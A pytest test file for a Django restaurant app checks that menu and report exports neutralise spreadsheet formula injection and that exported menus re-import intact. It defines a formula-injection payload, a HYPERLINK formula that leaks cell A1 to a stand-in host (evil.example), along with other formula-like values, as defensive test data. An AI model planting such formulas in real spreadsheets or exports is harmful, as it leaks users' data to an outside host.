"""A dish, category or allergen named like a formula (=HYPERLINK(...), +1, @SUM, -2+3)
reaches the manager's spreadsheet as text, from the menu's CSV and Excel exports and the
reports' CSV; the exported menu imports back unchanged."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from orders.models import MenuCategory, MenuItem
from orders.spreadsheets import FORMULA_STARTS
from tests import factories
from tests.admin.test_menu_import import csv_format_index, upload
from tests.admin.test_menu_import_preview import confirm
from tests.reports.history import make_history
from tests.reports.users import kitchen_manager

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
COLUMNS = ["sku", "name", "name_zh", "category", "allergens"]


def export(client: Client, fmt: str) -> bytes:
    page = client.get(reverse("admin:orders_menuitem_export")).text
    index = re.search(rf'<option value="(\d+)"[^>]*>{fmt}</option>', page).group(1)  # type: ignore[union-attr]
    response = client.post(
        reverse("admin:orders_menuitem_export"),
        {"format": index, "resource": "0", **{f"menuitemresource_{c}": "on" for c in COLUMNS}},
    )
    assert response.status_code == 200, response.content[:300]
    return bytes(response.content)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def formulas(rows: list[list[Any]]) -> list[Any]:
    return [c for row in rows for c in row if isinstance(c, str) and c.startswith(FORMULA_STARTS)]


def menu_with_formulas(kitchen: factories.Kitchen) -> None:
    category = MenuCategory.objects.create(restaurant=kitchen.restaurant, name="@SUM(A1)")
    MenuItem.objects.create(
        restaurant=kitchen.restaurant,
        sku="-2+3",
        name=LINK,
        name_zh="+86 菜",
        category=category,
        allergens="=1+1",
    )


def test_the_menus_csv_export_keeps_formulas_as_text(
    kitchen: factories.Kitchen, manager_client: Client
) -> None:
    menu_with_formulas(kitchen)

    rows = csv_rows(export(manager_client, "csv"))

    assert formulas(rows) == []
    assert rows[1] == ["'-2+3", "'" + LINK, "'+86 菜", "'@SUM(A1)", "'=1+1"]


def test_the_menus_excel_export_keeps_formulas_as_text(
    kitchen: factories.Kitchen, manager_client: Client
) -> None:
    import openpyxl

    menu_with_formulas(kitchen)

    sheet = openpyxl.load_workbook(io.BytesIO(export(manager_client, "xlsx"))).active
    assert sheet is not None
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert formulas([list(row) for row in sheet.values]) == []
    assert sheet["B2"].value == "'" + LINK


def test_an_exported_menu_imports_back_unchanged(
    kitchen: factories.Kitchen, manager_client: Client
) -> None:
    menu_with_formulas(kitchen)
    data = export(manager_client, "csv")
    MenuItem.objects.all().delete()

    response = upload(manager_client, data, fmt=csv_format_index(manager_client))
    assert confirm(manager_client, response).status_code == 302

    item = MenuItem.objects.select_related("category").get()
    assert (item.sku, item.name, item.name_zh, item.category.name, item.allergens) == (  # type: ignore[union-attr]
        "-2+3",
        LINK,
        "+86 菜",
        "@SUM(A1)",
        "=1+1",
    )


@pytest.mark.django_db
def test_the_reports_csv_keeps_a_dish_named_like_a_formula_as_text(client: Client) -> None:
    client.force_login(kitchen_manager())
    h = make_history()
    MenuItem.objects.filter(pk=h.steak.pk).update(name=LINK)
    h.steak.refresh_from_db()
    h.ticket(h.order(h.at("12:00")), minutes=13, station=h.grill, item=h.steak)
    query = "period=custom&start=2026-03-10&end=2026-03-10"

    for table in ("slowest-dishes", "late-dishes"):
        rows = csv_rows(client.get(f"/reports/?{query}&csv={table}").content)
        names = [row[0] for row in rows[1:]]
        assert "'" + LINK in names, (table, rows)
        assert formulas(rows) == [], table


NAMES = st.builds(
    lambda start, rest: (start + rest).strip()[:120],
    st.sampled_from(["", *FORMULA_STARTS, "'", "'=", "''+", "-1", "'-"]),
    st.text(alphabet=st.characters(categories=["L", "N", "P", "S", "Zs"]), max_size=20),
).filter(bool)


@hypothesis_settings(
    max_examples=10, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(names=st.lists(NAMES, min_size=1, max_size=12))
def test_any_dish_names_export_as_text_and_import_back_the_same(
    kitchen: factories.Kitchen, manager_client: Client, names: list[str]
) -> None:
    MenuItem.objects.all().delete()
    for n, name in enumerate(names):
        MenuItem.objects.create(restaurant=kitchen.restaurant, sku=f"P-{n}", name=name)

    data = export(manager_client, "csv")
    assert all(re.fullmatch(r"-[0-9][0-9.,:]*%?", cell) for cell in formulas(csv_rows(data)))
    MenuItem.objects.all().delete()
    response = upload(manager_client, data, fmt=csv_format_index(manager_client))
    assert confirm(manager_client, response).status_code == 302

    assert dict(MenuItem.objects.values_list("sku", "name")) == {
        f"P-{n}": name for n, name in enumerate(names)
    }
